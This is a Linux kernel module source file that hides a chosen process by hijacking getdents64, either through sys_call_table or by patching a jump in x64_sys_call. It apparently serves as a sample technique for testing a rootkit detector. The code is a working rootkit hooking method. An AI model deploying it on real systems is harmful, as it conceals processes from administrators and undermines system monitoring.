// SPDX-License-Identifier: GPL-2.0
/* getdents64() replaced where system calls are dispatched, to leave a process out of listings.
 * variant=call: the jump to it in x64_sys_call(). variant=table: its entry of sys_call_table, which
 * kernels with x64_sys_call() do not read any more (the write is what is to be found). */
#include <linux/kernel.h>
#include <linux/string.h>
#include <linux/syscalls.h>

#include "kernel.h"
#include "vtest.h"

#define LONGEST 32768 /* bytes of x64_sys_call() to search */

static void *place;
static u8 old[8];
static size_t count;

static int replace(void *where, const void *bytes, size_t size)
{
	place = where;
	count = size;
	memcpy(old, where, size);
	return poke(where, bytes, size);
}

/* The displacement of a jmp, jcc or call to `target`. */
static u8 *find_jump(u8 *code, const void *target)
{
	for (u8 *at = code + 1; at < code + LONGEST; at++) {
		s32 distance;

		memcpy(&distance, at, sizeof(distance));
		if (at + 4 + distance == (const u8 *)target &&
		    (at[-1] == 0xe9 || at[-1] == 0xe8 || (at[-1] & 0xf0) == 0x80))
			return at;
	}
	return NULL;
}

static int start(const char *variant, int pid)
{
	void *table = (void *)lookup("sys_call_table"), *own = filter_getdents;
	u8 *code = (u8 *)lookup("x64_sys_call"), *at;
	s32 distance;

	real_getdents = (syscall_fn *)lookup("__x64_sys_getdents64");
	if (!table || !real_getdents)
		return -ENOENT;
	filter_pid(pid);
	if (!strcmp(variant, "table"))
		return replace((void **)table + __NR_getdents64, &own, sizeof(own));
	at = code ? find_jump(code, real_getdents) : NULL;
	if (!at)
		return -ENOENT;
	say("dispatch: at x64_sys_call+%#lx", (unsigned long)(at - code));
	distance = (s32)((u8 *)own - (at + 4));
	return replace(at, &distance, sizeof(distance));
}

static void undo(void)
{
	poke(place, old, count);
}

const struct trick dispatch_trick = {"dispatch", start, undo};
